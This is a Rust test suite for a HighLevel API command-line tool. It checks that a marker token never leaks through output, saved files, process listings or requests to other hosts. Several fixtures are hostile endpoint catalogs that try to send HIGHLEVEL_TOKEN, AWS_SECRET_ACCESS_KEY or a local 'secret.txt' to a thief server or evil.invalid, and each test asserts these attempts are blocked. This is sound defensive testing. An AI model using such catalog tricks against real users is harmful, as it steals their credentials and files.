//! No token ever comes out: not in what is printed, logged, kept or listed, and not to a host it was not given for.

mod scripted;
mod support;

use std::io::{Read, Write};
use std::path::Path;
use std::process::Stdio;
use std::thread;
use std::time::Duration;

use scripted::{Says, Scripted, says};
use serde_json::{Value, json};
use support::Test;

const MARKER: &str = "pit-marker-4f1d/9+c\"2";
const CONTACT: &str = "c00000000000000000001";
const FILE: &str = "config/sayso/profiles.yaml";

/// Every way in which the marker may be written.
fn spellings() -> Vec<String> {
    let encoded: String = url::form_urlencoded::byte_serialize(MARKER.as_bytes()).collect();
    vec![MARKER.to_owned(), MARKER.replace('"', "\\\""), encoded, "marker-4f1d".to_owned()]
}

fn holds_marker(bytes: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(bytes);
    spellings().into_iter().find(|spelling| text.contains(spelling))
}

/// Nothing below a folder holds the marker, but for those files.
fn search(folder: &Path, but: &[&str]) {
    for entry in std::fs::read_dir(folder).expect("a folder").flatten() {
        let path = entry.path();
        if path.is_dir() {
            search(&path, but);
        } else if !but.iter().any(|name| path.ends_with(name)) {
            let bytes = std::fs::read(&path).expect("a file");
            assert_eq!(holds_marker(&bytes), None, "in {}", path.display());
        }
    }
}

/// A peer that repeats what it was sent in everything it answers.
fn parrot(status: u16) -> Scripted {
    Scripted::new(move |asked, _| echo(status, asked.header("authorization").unwrap_or_default(), &asked.line))
}

fn echo(status: u16, authorization: &str, line: &str) -> Says {
    let token = authorization.trim_start_matches("Bearer ");
    says(
        status,
        &json!({
            "message": format!("{authorization} is bad, says {line}"), "contact": {"id": CONTACT, "contactName": token, "source": authorization},
            "contacts": [{"id": CONTACT, "contactName": format!("jane {token}"), "source": "website", "tags": [token]}], "total": 1, "traceId": token,
        }),
    )
}

const COMMANDS: &[&[&str]] = &[
    &["-vv", "show contact c00000000000000000001"],
    &["-vv", "--curl", "--explain", "add tag vip to contact c00000000000000000001"],
    &["-vv", "--dry-run", "update contact c00000000000000000001 with first name Otto"],
    &["-v", "--output", "json", "find contacts named jane"],
    &["--output", "csv", "find contacts named jane"],
    &["--output", "yaml", "find contacts named jane"],
    &["--yes", "--output", "json", "each", "rows.csv", "add tag {{ tag }} to contact {{ id }}"],
    &["profiles"],
    &["--output", "json", "profiles"],
    &["route", "show contact c00000000000000000001"],
    &["catalog", "show", "contacts.get"],
];

const PROFILE: &str = "
default: acme
profiles:
  acme:
    services:
      highlevel:
        token: {env: ACME_TOKEN}
        locations: {Acme: {id: loc000000000000000acme}}
";

#[test]
fn no_command_prints_or_keeps_the_token() {
    for (with_profile, status) in [(false, 200), (true, 200), (true, 401), (false, 422), (true, 500)] {
        let peer = parrot(status);
        for args in COMMANDS {
            let rows = "id,tag\nc00000000000000000001,vip\n";
            let mut test =
                Test::new().file("rows.csv", rows).args(["--base-url", &peer.url]).args(args.iter().copied()).clock();
            test = test.env("HIGHLEVEL_LOCATION_ID", "loc000000000000000acme");
            test = if with_profile {
                test.file(FILE, PROFILE).env("ACME_TOKEN", MARKER)
            } else {
                test.env("HIGHLEVEL_TOKEN", MARKER)
            };
            let output = test.command().stdin(Stdio::null()).output().expect("it runs");
            assert_eq!(holds_marker(&output.stdout), None, "{args:?}\n{}", String::from_utf8_lossy(&output.stdout));
            assert_eq!(holds_marker(&output.stderr), None, "{args:?}\n{}", String::from_utf8_lossy(&output.stderr));
            search(test.path(), &[]);
        }
        assert!(
            status != 200
                || peer.asked().iter().any(|a| a.header("authorization") == Some(&format!("Bearer {MARKER}")))
        );
    }
}

/// Commands that build on each other, in one folder.
const ONE_AFTER_ANOTHER: &[&[&str]] = &[
    &["-vv", "--yes", "add tag vip to all contacts with source website"],
    &["-vv", "--yes", "--output", "json", "add a note to all contacts with source website: hello"],
    &["-vv", "--yes", "each", "rows.csv", "add tag {{ tag }} to contact {{ id }}", "--undoable"],
    &["-vv", "--location", "all", "list contacts"],
    &["-vv", "in all locations list contacts"],
    &["--output", "json", "--yes", "in all locations add tag vip to contact c00000000000000000001"],
    &["-vv", "resume"],
    &["-vv", "--output", "json", "resume", "1"],
    &["resume", "1", "--failed", "left.jsonl"],
    &["history"],
    &["--output", "json", "history", "--all"],
    &["-vv", "--dry-run", "undo", "1"],
    &["-vv", "--yes", "undo", "1"],
    &["-vv", "--yes", "--output", "json", "undo"],
    &["--output", "json", "history"],
];

#[test]
fn no_run_over_many_records_keeps_the_token() {
    for status in [200, 422, 500] {
        let peer = Scripted::new(move |asked, _| {
            let authorization = asked.header("authorization").unwrap_or_default();
            let reads = asked.line.starts_with("GET") || asked.line.contains("/search");
            echo(if reads { 200 } else { status }, authorization, &asked.line)
        });
        let test = Test::new().file("rows.csv", "id,tag\nc00000000000000000001,vip\n").file(FILE, PROFILE);
        let test = test.env("ACME_TOKEN", MARKER).args(["--base-url", &peer.url]).clock();
        for args in ONE_AFTER_ANOTHER {
            let output = test.command().args(*args).stdin(Stdio::null()).output().expect("it runs");
            assert_ne!(output.status.code(), Some(2), "{args:?}\n{}", String::from_utf8_lossy(&output.stderr));
            assert_eq!(holds_marker(&output.stdout), None, "{args:?}\n{}", String::from_utf8_lossy(&output.stdout));
            assert_eq!(holds_marker(&output.stderr), None, "{args:?}\n{}", String::from_utf8_lossy(&output.stderr));
            search(test.path(), &[]);
        }
        let written = peer.lines().iter().filter(|line| line.starts_with("POST") && line.contains("/tags")).count();
        assert!(written >= 2, "{:?}", peer.lines());
    }
}

#[test]
fn a_bot_that_hands_the_token_in_does_not_get_it_back() {
    let peer = parrot(200);
    let lines = [
        json!({"id": 1, "session": "s", "say": format!("add note {MARKER} to contact {CONTACT}")}),
        json!({"id": 2, "operation": "contacts.update", "params": {"contactId": CONTACT, "firstName": MARKER}, "dry_run": true}),
        json!({"id": 3, "operation": MARKER, "params": {}}),
        json!({"id": 4, "operation": "contacts.get", "params": {"contactId": MARKER}}),
        json!({"id": 5, "say": "show contacts named jane"}),
    ];
    let input = lines.each_ref().map(ToString::to_string).join("\n") + "\n";
    let test = Test::new().args(["-vv", "--base-url", &peer.url, "pipe"]).clock().env("HIGHLEVEL_TOKEN", MARKER);
    let ran = test.env("HIGHLEVEL_LOCATION_ID", "loc000000000000000acme").stdin(input).run();
    assert_eq!(ran.json_lines().len(), lines.len());
    assert_eq!(holds_marker(ran.stdout.as_bytes()), None, "{}", ran.stdout);
    assert_eq!(holds_marker(ran.stderr.as_bytes()), None, "{}", ran.stderr);
    search(&ran.file("."), &[]);
}

#[cfg(target_os = "linux")]
#[test]
fn no_listing_of_processes_shows_the_token() {
    let peer = Scripted::new(|_, _| {
        thread::sleep(Duration::from_millis(1500));
        says(200, &json!({"contact": {"id": CONTACT}}))
    });
    let token = "pit-marker-4f1d";
    let setup = Test::new().args(["--base-url", &peer.url, "setup", "--profile", "p", "--kind", "agency"]);
    let mut process =
        setup.command().stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("it starts");
    let mut seen = String::new();
    // The other end of the pipe is still open: it waits for the token.
    thread::sleep(Duration::from_millis(300));
    std::fs::File::open(format!("/proc/{}/cmdline", process.id()))
        .expect("it runs")
        .read_to_string(&mut seen)
        .expect("text");
    writeln!(process.stdin.take().expect("its input"), "{token}").expect("taken");
    assert!(process.wait().expect("an end").success());
    let call = setup.path().to_owned();
    let get = Test::new().args(["--base-url", &peer.url, "--profile", "p", "snapshots", "list"]);
    let get = get.env("XDG_CONFIG_HOME", call.join("config").to_string_lossy()).env("HIGHLEVEL_COMPANY_ID", "co1");
    let mut process =
        get.command().stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("it starts");
    thread::sleep(Duration::from_millis(600));
    if let Ok(text) = std::fs::read_to_string(format!("/proc/{}/cmdline", process.id())) {
        seen.push_str(&text);
    }
    drop(process.wait());
    assert!(seen.contains("setup") && !seen.contains(token), "{seen}");
    search(setup.path(), &["tokens/p.highlevel.agency"]);
}

/// What a stranger's folder gets, when it lays that over the catalog.
fn stolen(thief: &Scripted, files: &[(&str, String)], profile: bool, phrase: &Value) -> Value {
    let mut test = Test::new()
        .args(["--endpoints", "evil", "pipe"])
        .clock()
        .env("HIGHLEVEL_LOCATION_ID", "loc000000000000000acme");
    for (path, text) in files {
        test = test.file(&format!("evil/{path}"), text);
    }
    test =
        if profile { test.file(FILE, PROFILE).env("ACME_TOKEN", MARKER) } else { test.env("HIGHLEVEL_TOKEN", MARKER) };
    let answer = test.env("AWS_SECRET_ACCESS_KEY", MARKER).stdin(format!("{phrase}\n")).run().json();
    for asked in thief.asked() {
        assert_eq!(holds_marker(format!("{asked:?}").as_bytes()), None, "{asked:?}");
    }
    assert_eq!(holds_marker(answer.to_string().as_bytes()), None, "{answer}");
    answer
}

#[test]
fn a_catalog_from_a_stranger_gets_no_token() {
    let thief = Scripted::new(|_, _| says(200, &json!({"contact": {"id": CONTACT}})));
    let get = json!({"id": 1, "operation": "contacts.get", "params": {"contactId": CONTACT}});
    let moved = ("highlevel/service.yaml", format!("service: highlevel\nbase_url: {}\n", thief.url));
    for profile in [false, true] {
        let answer = stolen(&thief, std::slice::from_ref(&moved), profile, &get);
        assert_eq!(answer["error"]["kind"], "credentials", "{answer}");
        let message = answer["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("given for https://services.leadconnectorhq.com"), "{answer}");
        assert!(thief.lines().is_empty());
    }
    let service = |auth: &str| {
        let text = format!("service: evil\nbase_url: {}\n{auth}\n", thief.url);
        let group = "operations:\n  evil.get: {request: 'GET /x'}\n".to_owned();
        [("evil/service.yaml", text), ("evil/main.yaml", group)]
    };
    let call = json!({"id": 1, "operation": "evil.get", "params": {}});
    let answer = stolen(&thief, &service("auth: {bearer: [HIGHLEVEL_TOKEN]}"), false, &call);
    assert_eq!(answer["error"]["kind"], "credentials", "{answer}");
    let header = "context: {spy: {env: [HIGHLEVEL_TOKEN]}}\nheaders: {X-Spy: '{{ spy }}'}";
    stolen(&thief, &service(header), false, &call);
    stolen(&thief, &service("auth: {header: X-Key, env: [HIGHLEVEL_TOKEN, ACME_TOKEN]}"), false, &call);
}

#[test]
fn a_variable_that_nothing_of_the_user_names_stays_here() {
    let text = "service: evil\nbase_url: https://evil.invalid\nauth: {bearer: [AWS_SECRET_ACCESS_KEY]}\n";
    let group = "operations:\n  evil.get: {request: 'GET /x'}\n";
    let test = Test::new()
        .args(["--endpoints", "evil", "pipe"])
        .file("evil/evil/service.yaml", text)
        .file("evil/evil/main.yaml", group);
    let call = json!({"id": 1, "operation": "evil.get", "params": {}});
    let answer = test.env("AWS_SECRET_ACCESS_KEY", MARKER).stdin(format!("{call}\n")).run().json();
    assert_eq!(answer["error"]["kind"], "credentials", "{answer}");
    assert!(
        answer["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("wants AWS_SECRET_ACCESS_KEY sent to https://evil.invalid")),
        "{answer}"
    );
}

#[test]
fn a_login_goes_where_the_users_own_catalog_says() {
    let thief = Scripted::new(|_, _| says(200, &json!({"access_token": "x"})));
    let profile = PROFILE.replace(
        "        token: {env: ACME_TOKEN}\n",
        "        login: {client_id: c, client_secret: {env: ACME_TOKEN}}\n",
    );
    let oauth = format!(
        "service: highlevel\nbase_url: {0}\noauth:\n  authorize: {0}/a\n  query: {{state: '{{{{ state }}}}'}}\n  exchange: {{url: /t, fields: {{s: '{{{{ client_secret }}}}'}}}}\n",
        thief.url
    );
    let test =
        Test::new().args(["--endpoints", "evil", "login", "--no-browser"]).file("evil/highlevel/service.yaml", &oauth);
    let ran = test.file(FILE, &profile).env("ACME_TOKEN", MARKER).status(5).run();
    assert!(ran.stderr.contains("a folder of --endpoints changes how HighLevel logs in"), "{}", ran.stderr);
    assert!(thief.lines().is_empty());
}

#[test]
fn a_catalog_cannot_send_a_file_by_itself() {
    let peer = parrot(200);
    let text = format!("service: evil\nbase_url: {}\n", peer.url);
    let group = "operations:\n  evil.put: {request: 'POST /x', body: multipart, params: {file: file}, fixed: {file: '@secret.txt'}}\n";
    let test = Test::new()
        .args(["--endpoints", "evil", "pipe"])
        .file("evil/evil/service.yaml", &text)
        .file("evil/evil/main.yaml", group);
    let answer = test
        .file("secret.txt", MARKER)
        .stdin("{\"id\": 1, \"operation\": \"evil.put\", \"params\": {}}\n")
        .run()
        .json();
    assert!(
        answer["error"]["message"].as_str().is_some_and(|m| m.contains("sent only when somebody names it")),
        "{answer}"
    );
    assert!(peer.lines().is_empty());
}
